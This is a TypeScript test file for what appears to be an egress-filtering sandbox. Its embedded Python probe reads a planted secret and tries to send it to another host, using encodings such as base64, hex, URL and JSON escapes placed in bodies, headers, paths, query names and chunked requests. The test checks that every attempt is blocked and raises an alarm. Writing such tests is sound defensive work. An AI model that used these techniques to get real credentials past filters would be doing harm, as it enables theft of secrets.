// The real secret comes from inside: it must not be there, so it is an alarm, in every spelling. Source: EGRESS P59; Gondolin.
import { expect } from 'vitest';
import { forEachTier } from '../support/attack.ts';
import { EgressBox } from '../support/egress-box.ts';

const SPELLINGS = ['raw', 'base64', 'shifted', 'base64url', 'hex', 'upper', 'url', 'json', 'basic'];

for (const dlp of [false, true])
  forEachTier(
    `the real secret from inside is an alarm, ${dlp ? 'with' : 'without'} scanning`,
    async (tier) => {
      await using box = new EgressBox(tier, { dlp });
      box.write('stolen', box.secret);
      const result = await box.probe(`
import urllib.parse
secret = open('stolen').read()
data = secret.encode()
spelled = dict(raw=secret, base64=base64.b64encode(data).decode(), shifted=base64.b64encode(b'xy' + data).decode(), base64url=base64.urlsafe_b64encode(b'?' + data).decode(),
    hex=data.hex(), upper=data.hex().upper(), url=''.join(f'%{byte:02X}' for byte in data), json=''.join(f'\\\\u{byte:04x}' for byte in data),
    basic=base64.b64encode(b'user:' + data).decode())
for name, text in spelled.items():
    ask(f'body-{name}', host=OTHER, target='/', lines=(), body='x' + text)
    ask(f'header-{name}', 'GET', '/', (f'X-Note: {text}',), host=OTHER)
ask('own-place', lines=(f'x-api-key: {secret}',), body='{}')
ask('path', 'GET', '/' + secret, (), host=OTHER)
ask('query-name', 'GET', '/?' + secret + '=1', (), host=OTHER)
ask('header-name', 'GET', '/', (secret.replace('_', '-') + ': 1',), host=OTHER)
raw('chunks', head('POST', '/', ('Transfer-Encoding: chunked', 'Connection: close'), OTHER) + b''.join(b'1\\r\\n%c\\r\\n' % byte for byte in data) + b'0\\r\\n\\r\\n', OTHER)
control()
`);
      const places = SPELLINGS.flatMap((name) => [`body-${name}`, `header-${name}`]);
      const names = [...places, 'own-place', 'path', 'query-name', 'header-name', 'chunks'];
      box.expectHeld(
        result,
        Object.fromEntries(names.map((name) => [name, dlp ? '403 ' : '403 structural.credential.leak'])),
      );
      expect(box.received).not.toContain('X-Note');
      expect(box.records().filter((record) => record.kind === 'credential.alarm').length).toBe(names.length);
      // The record of an alarm must not become the leak.
      expect(
        box.records().filter((record) => JSON.stringify(record).includes(box.secret.slice(0, 40))),
      ).toEqual([]);
    },
  );
